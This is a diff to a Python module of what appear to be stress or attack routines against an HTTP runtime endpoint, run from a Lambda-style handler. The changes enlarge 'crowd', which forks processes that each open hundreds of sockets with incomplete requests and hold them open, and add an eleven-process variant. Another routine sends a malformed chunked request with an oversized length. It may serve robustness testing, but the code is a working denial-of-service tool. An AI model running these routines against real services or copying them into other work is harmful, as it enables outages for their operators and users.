@@ -64,11 +64,10 @@ def smuggled(address):
 def giant_chunk(address):
     return over_http(address, b'POST /2018-06-01/ping HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nffffffffffffffff\\r\\n')
 
-def crowd(address):
-    children = []
-    for _ in range(3):
-        pid = os.fork()
-        if pid == 0:
+def crowd(address, processes=3):
+    ready, tell = os.pipe()
+    for _ in range(processes):
+        if os.fork() == 0:
             held = []
             try:
                 for _ in range(900):
@@ -76,11 +75,13 @@ def crowd(address):
                     caller.sendall(b'GET /')
                     held.append(caller)
             except OSError: pass
-            time.sleep(2)
+            os.write(tell, b'.')
+            time.sleep(30)
             os._exit(0)
-        children.append(pid)
-    for pid in children: os.waitpid(pid, 0)
-    return 'well'
+    for _ in range(processes): os.read(ready, 1)
+    return 'held'
+
+def multitude(address): return crowd(address, 11)
 
 def handler(event, context):
     if not event: return 'well'
